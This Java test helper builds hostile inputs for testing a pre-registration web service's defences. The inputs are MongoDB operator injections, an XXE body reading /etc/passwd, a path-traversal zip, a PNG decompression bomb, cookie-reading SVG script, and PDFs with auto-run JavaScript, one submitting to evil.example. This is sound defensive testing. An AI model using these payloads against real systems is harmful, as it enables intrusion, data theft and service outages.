package mx.gob.inm.preregistro.system;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.EnumSet;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.function.Function;
import java.util.stream.Collectors;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** What an attacker (or a broken client) sends instead of a form: values, whole bodies and files. */
final class HostilePayloads {

    static final int MEGABYTE = 1024 * 1024;

    private HostilePayloads() {
    }

    /** A JSON value put in place of one field of an otherwise ordinary body; raw bytes, so not always UTF-8. */
    enum Value {
        MONGO_OPERATOR("{\"$gt\": \"\"} (Mongo operator)", ascii("{\"$gt\": \"\"}")),
        MONGO_WHERE("{\"$where\": ...} (Mongo JavaScript)", ascii("{\"$where\": \"sleep(5000) || true\"}")),
        ARRAY("an array", ascii("[\"$ne\", null]")),
        HUGE_INTEGER("a 40-digit number", ascii("1234567890123456789012345678901234567890")),
        FLOAT_OVERFLOW("1e999999", ascii("1e999999")),
        BOOLEAN("a boolean", ascii("true")),
        ONE_MEGABYTE("a 1 MB string", quoted(ascii("A".repeat(MEGABYTE)))),
        NUL("a string with NUL", ascii("\"Ana\\u0000Luc\\u00eda\"")),
        RTL_OVERRIDE("a string with a right-to-left override", quoted(utf8("Ana \u202Eaícul"))),
        ESCAPED_LONE_SURROGATE("an unpaired surrogate (\\ud800)", ascii("\"Ana\\ud800\"")),
        RAW_LONE_SURROGATE("an unpaired surrogate in raw bytes (ED A0 80)",
                quoted(concat(ascii("Ana"), new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}))),
        INVALID_UTF8("invalid UTF-8 bytes (C3 28)", quoted(concat(ascii("Ana"), new byte[] {(byte) 0xC3, 0x28}))),
        COMBINING_FLOOD("A with 10 000 combining accents", quoted(utf8("A" + "\u0301".repeat(10_000)))),
        // for the fields that take a date only (DATES): LocalDate.parse takes a signed year of nine digits, which a
        // MongoDB date cannot hold (a 500 where it was stored)
        FAR_PAST_DATE("the date -999999999-01-01", ascii("\"-999999999-01-01\"")),
        FAR_FUTURE_DATE("the date +999999999-12-31", ascii("\"+999999999-12-31\""));

        /** The values that are hostile only in a field that takes a date (elsewhere they are text like any). */
        static final Set<Value> DATES = EnumSet.of(FAR_PAST_DATE, FAR_FUTURE_DATE);

        final String label;
        final byte[] json;

        Value(String label, byte[] json) {
            this.label = label;
            this.json = json;
        }
    }

    /** A whole body that is not the form at all; built from the endpoint's ordinary fields where it needs them. */
    enum Body {
        MALFORMED("malformed JSON", "application/json", fields -> ascii("{\"a\": \"b\",")),
        TRUNCATED("a body cut in a string", "application/json", fields -> ascii("{\"" + first(fields) + "\": \"Ana")),
        ARRAY("an array instead of an object", "application/json", fields -> ascii("[1, 2, 3]")),
        STRING("a bare string", "application/json", fields -> ascii("\"hola\"")),
        EMPTY("an empty body", "application/json", fields -> new byte[0]),
        MISSING_FIELDS("no fields at all", "application/json", fields -> ascii("{}")),
        EXTRA_FIELDS("only fields that do not exist (_id, $where, status, __proto__)", "application/json",
                fields -> ascii("{\"_id\": {\"$ne\": null}, \"$where\": \"1 == 1\", \"status\": \"APPROVED\","
                        + " \"accountId\": \"someone-else\", \"__proto__\": {\"admin\": true}}")),
        DUPLICATE_KEY("the first field again as a Mongo operator", "application/json",
                fields -> concat(Arrays.copyOf(object(fields), object(fields).length - 1),
                        ascii(", \"" + first(fields) + "\": {\"$gt\": \"\"}}"))),
        TEN_THOUSAND_FIELDS("10 000 fields", "application/json", fields -> tenThousandFields()),
        DEEP_NESTING("arrays nested 100 000 deep", "application/json",
                fields -> ascii("{\"" + first(fields) + "\": " + "[".repeat(100_000) + "]".repeat(100_000) + "}")),
        TEN_MEGABYTES("a 10 MB body", "application/json",
                fields -> ascii("{\"" + first(fields) + "\": \"" + "A".repeat(10 * MEGABYTE) + "\"}")),
        PLAIN_TEXT("the form as text/plain", "text/plain", HostilePayloads::object),
        // Spring MVC failed on a wildcard body type with a 500 (spring-framework#27957; platform ConcreteContentType)
        ANY_TYPE("the form as */*", "*/*", HostilePayloads::object),
        ANY_APPLICATION_TYPE("the form as application/*", "application/*", HostilePayloads::object),
        // the gateway used to read such a body for a CSRF token, and the service then waited for it: a 503 after 30 s
        FORM_ENCODED("the fields form-encoded", "application/x-www-form-urlencoded", fields -> ascii(
                fields.keySet().stream().map(name -> name + "=1").collect(Collectors.joining("&")))),
        XML_ENTITY("XML with an external entity", "application/xml", fields -> ascii(
                "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"));

        final String label;
        final String contentType;
        final Function<Map<String, String>, byte[]> bytes;

        Body(String label, String contentType, Function<Map<String, String>, byte[]> bytes) {
            this.label = label;
            this.contentType = contentType;
            this.bytes = bytes;
        }
    }

    /** The ordinary body: {@code fields} maps each name to its JSON value. */
    static byte[] object(Map<String, String> fields) {
        return object(fields, null, null);
    }

    /** The ordinary body with {@code field}'s value replaced by {@code value}'s bytes. */
    static byte[] object(Map<String, String> fields, String field, byte[] value) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(ascii("{"));
        fields.forEach((name, json) -> {
            out.writeBytes(utf8((out.size() > 1 ? ", \"" : "\"") + name + "\": "));
            out.writeBytes(name.equals(field) ? value : utf8(json));
        });
        out.writeBytes(ascii("}"));
        return out.toByteArray();
    }

    /** A multipart/form-data body: its content type (with the boundary) and bytes. */
    record Multipart(String contentType, byte[] bytes) {

        static Multipart of(String field, String fileName, String fileType, byte[] content, Map<String, String> more) {
            String boundary = "----hostile" + UUID.randomUUID();
            ByteArrayOutputStream body = new ByteArrayOutputStream();
            more.forEach((name, value) -> body.writeBytes(utf8("--" + boundary
                    + "\r\nContent-Disposition: form-data; name=\"" + name + "\"\r\n\r\n" + value + "\r\n")));
            body.writeBytes(utf8("--" + boundary + "\r\nContent-Disposition: form-data; name=\"" + field
                    + "\"; filename=\"" + fileName + "\"\r\nContent-Type: " + fileType + "\r\n\r\n"));
            body.writeBytes(content);
            body.writeBytes(utf8("\r\n--" + boundary + "--\r\n"));
            return new Multipart("multipart/form-data; boundary=" + boundary, body.toByteArray());
        }
    }

    /** A real, small PNG (a photographed ticket). */
    static byte[] png() {
        try {
            return TravellerJourneyTest.ticketPng();
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    /**
     * A well-formed PNG that declares {@code width} × {@code height} pixels (one IDAT of a few bytes): decoding it
     * naively allocates width × height × 4 bytes (3.6 GB for 30 000 × 30 000), a decompression bomb.
     */
    static byte[] pngDeclaring(int width, int height) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'});
        chunk(out, "IHDR", ByteBuffer.allocate(13).putInt(width).putInt(height)
                .put((byte) 8).put((byte) 6).put((byte) 0).put((byte) 0).put((byte) 0).array());
        chunk(out, "IDAT", new byte[] {0x78, (byte) 0x9C, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01});
        chunk(out, "IEND", new byte[0]);
        return out.toByteArray();
    }

    /**
     * A PNG of {@code width} × {@code height} light gray pixels, with an alpha channel or without: every row is there,
     * so it decodes whole (tens of megapixels in a few hundred kilobytes), as a flat photo of a page would.
     */
    static byte[] plainPng(int width, int height, boolean alpha) {
        int channels = alpha ? 4 : 3;
        ByteArrayOutputStream pixels = new ByteArrayOutputStream();
        byte[] row = new byte[1 + width * channels];   // filter type 0, then the samples
        Arrays.fill(row, 1, row.length, (byte) 0xF0);
        try (DeflaterOutputStream deflated = new DeflaterOutputStream(pixels, new Deflater(9))) {
            for (int y = 0; y < height; y++) {
                deflated.write(row);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'});
        chunk(out, "IHDR", ByteBuffer.allocate(13).putInt(width).putInt(height)
                .put((byte) 8).put((byte) (alpha ? 6 : 2)).put((byte) 0).put((byte) 0).put((byte) 0).array());
        chunk(out, "IDAT", pixels.toByteArray());
        chunk(out, "IEND", new byte[0]);
        return out.toByteArray();
    }

    /** A real PNG padded after its end to exactly {@code size} bytes. */
    static byte[] pngOfSize(int size) {
        return Arrays.copyOf(png(), size);
    }

    static byte[] zip() {
        try {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            try (ZipOutputStream zip = new ZipOutputStream(out)) {
                zip.putNextEntry(new ZipEntry("../../../../tmp/evil.sh"));
                zip.write(ascii("#!/bin/sh\necho owned\n"));
                zip.closeEntry();
            }
            return out.toByteArray();
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    static byte[] html() {
        return ascii("<!DOCTYPE html><html><body><script>fetch('/api/accounts/me/export')</script></body></html>");
    }

    static byte[] svg() {
        return ascii("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.cookie)</script></svg>");
    }

    /** A Windows executable's first bytes. */
    static byte[] executable() {
        return concat(ascii("MZ"), new byte[512]);
    }

    /** A PDF that runs JavaScript when opened (OpenAction), as an officer's viewer would. */
    static byte[] pdfWithJavaScript() {
        return ascii("""
                %PDF-1.7
                1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /JavaScript << /Names [(x) 4 0 R] >> >> >> endobj
                2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
                3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >> endobj
                4 0 obj << /Type /Action /S /JavaScript /JS (app.alert\\('owned'\\); this.submitForm\\('http://evil.example/'\\);) >> endobj
                xref
                0 5
                0000000000 65535 f\s
                0000000009 00000 n\s
                0000000130 00000 n\s
                0000000187 00000 n\s
                0000000262 00000 n\s
                trailer << /Size 5 /Root 1 0 R >>
                startxref
                400
                %%EOF
                """);
    }

    /**
     * A JavaScript action nested 600 arrays deep in a page: deeper than PDFBox reads an object (500), which it then
     * logged and read as nothing, so the action passed the check unseen.
     */
    static byte[] pdfWithNestedJavaScript() {
        String nested = "[".repeat(600) + "<< /S /JavaScript /JS (app.alert\\(1\\)) >>" + "]".repeat(600);
        return ascii("%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
                + "2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n"
                + "3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /X " + nested + " >> endobj\n"
                + "trailer << /Size 4 /Root 1 0 R >>\n%%EOF\n");
    }

    static byte[] ascii(String text) {
        return text.getBytes(StandardCharsets.US_ASCII);
    }

    static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static void chunk(ByteArrayOutputStream out, String type, byte[] data) {
        byte[] typeBytes = ascii(type);
        out.writeBytes(ByteBuffer.allocate(4).putInt(data.length).array());
        out.writeBytes(typeBytes);
        out.writeBytes(data);
        CRC32 crc = new CRC32();
        crc.update(typeBytes);
        crc.update(data);
        out.writeBytes(ByteBuffer.allocate(4).putInt((int) crc.getValue()).array());
    }

    private static byte[] tenThousandFields() {
        StringBuilder json = new StringBuilder("{");
        for (int i = 0; i < 10_000; i++) {
            json.append(i == 0 ? "" : ",").append("\"f").append(i).append("\":\"x\"");
        }
        return ascii(json.append('}').toString());
    }

    private static String first(Map<String, String> fields) {
        return fields.keySet().iterator().next();
    }

    private static byte[] quoted(byte[] content) {
        return concat(concat(ascii("\""), content), ascii("\""));
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] both = Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, both, a.length, b.length);
        return both;
    }
}
